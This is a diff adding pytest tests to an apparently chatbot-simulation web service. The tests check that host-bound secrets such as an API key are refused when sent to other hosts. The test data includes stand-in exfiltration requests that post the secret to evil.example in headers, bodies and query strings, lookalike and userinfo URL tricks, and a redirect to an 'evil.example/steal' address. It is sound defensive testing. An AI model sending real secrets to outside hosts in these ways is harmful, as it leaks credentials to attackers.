@@ -239,3 +239,110 @@ def test_runs_a_dead_server_left_running_are_settled_at_start(
     assert RunJob.objects.get(pk=applied.pk).status == "failed"
     editor = client_for(world["editor"])
     assert api(editor, "post", f"/api/runs/{resumable.pk}/resume/").status_code == 202
+
+
+def _rest_chatbot(url: str, header: str = "Bearer ${BOT_KEY}") -> str:
+    return (
+        f"connector: rest\nparams:\n  base_url: {url}\n"
+        f"  headers: {{X-Api-Key: '{header}'}}\n"
+        "  send_message: {path: /chat, payload_template: {message: '{user_msg}'}}\n"
+        "  response_path: reply\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://evil.example",
+        "https://bot.example.evil.example",
+        "http://bot.example@evil.example",
+        "https://evil.example:443/bot.example",
+        "http://${BOT_KEY}.evil.example",
+    ],
+)
+def test_an_editor_cannot_send_a_bound_secret_to_another_host(
+    world: dict[str, Any], url: str
+) -> None:
+    project, owner = world["project"], world["owner"]
+    owner_client, editor = client_for(owner), client_for(world["editor"])
+    created = api(
+        owner_client,
+        "post",
+        "/api/secrets/",
+        {"project": project.pk, "name": "BOT_KEY", "value": "k" * 24, "hosts": "bot.example"},
+    )
+    assert created.status_code == 201 and created.data["hosts"] == "bot.example"
+    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
+    launch = {"project": project.pk, "job": "simulate"}
+    launch["settings"] = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
+    save_file(project, "chatbot", "chatbot.yaml", _rest_chatbot("http://bot.example"), owner)
+    assert api(editor, "post", "/api/runs/", launch).status_code == 201  # the control
+    save_file(project, "chatbot", "chatbot.yaml", _rest_chatbot(url), world["editor"])
+    response = api(editor, "post", "/api/runs/", launch)
+    assert response.status_code == 400, url
+    assert "may be sent only to bot.example" in json.dumps(response.data)
+
+
+def test_secret_hosts_must_be_host_names(world: dict[str, Any]) -> None:
+    owner = client_for(world["owner"])
+    for hosts in ("*", "http://bot.example", "bot.example/path", "*.example.org"):
+        data = {"project": world["project"].pk, "name": "K", "value": "v" * 12, "hosts": hosts}
+        assert api(owner, "post", "/api/secrets/", data).status_code == 400, hosts
+
+
+async def test_the_transport_refuses_a_request_carrying_a_bound_secret_elsewhere() -> None:
+    """Whatever built the request (a template, a redirect hop), a bound secret in its URL,
+    headers or body goes only to its hosts."""
+    import httpx
+
+    from sparring._policy import ExecutionPolicy, scoped
+    from sparring._ssrf import AddressRefused, GuardedTransport, NetworkPolicy
+
+    sent: list[str] = []
+
+    def answer(request: httpx.Request) -> httpx.Response:
+        sent.append(str(request.url.host))
+        if request.url.path == "/redirect":
+            return httpx.Response(302, headers={"Location": "http://evil.example/steal"})
+        return httpx.Response(200, json={"reply": "ok"})
+
+    async def public(host: str, port: int) -> list[Any]:
+        import ipaddress
+
+        return [ipaddress.ip_address("93.184.216.34")]
+
+    secret = "bound-secret-value-123456"
+    policy = ExecutionPolicy(
+        run_code=False,
+        secrets={"BOT_KEY": secret},
+        secret_hosts={"BOT_KEY": frozenset({"bot.example"})},
+    )
+    transport = GuardedTransport(NetworkPolicy(), httpx.MockTransport(answer), resolver=public)
+    with scoped(policy):
+        async with httpx.AsyncClient(transport=transport, follow_redirects=True) as client:
+            ok = await client.post("http://bot.example/chat", headers={"X-Api-Key": secret})
+            assert ok.status_code == 200
+            for call in (
+                client.post("http://evil.example/chat", headers={"X-Api-Key": secret}),
+                client.post("http://evil.example/chat", json={"key": secret}),
+                client.get(f"http://evil.example/?k={secret}"),
+                client.post("http://bot.example/redirect", headers={"X-Api-Key": secret}),
+            ):
+                with pytest.raises(AddressRefused, match=r"may be sent only to bot\.example"):
+                    await call
+    assert len(sent) == 2  # the allowed call and the redirecting one: nothing reached evil
+
+
+def test_a_model_base_url_elsewhere_withholds_bound_model_keys() -> None:
+    from sparring.web._job_process import JobSpec, _model_secrets
+
+    spec = JobSpec(
+        action="submit",
+        run_dir="/x",
+        roots=[],
+        secrets={"OPENAI_API_KEY": "sk-owner-123456789", "FREE": "f" * 12},
+        secret_hosts={"OPENAI_API_KEY": ["api.openai.com"]},
+    )
+    assert set(_model_secrets(spec, None)) == {"OPENAI_API_KEY", "FREE"}
+    assert set(_model_secrets(spec, "https://api.openai.com/v1")) == {"OPENAI_API_KEY", "FREE"}
+    assert set(_model_secrets(spec, "https://evil.example/v1")) == {"FREE"}
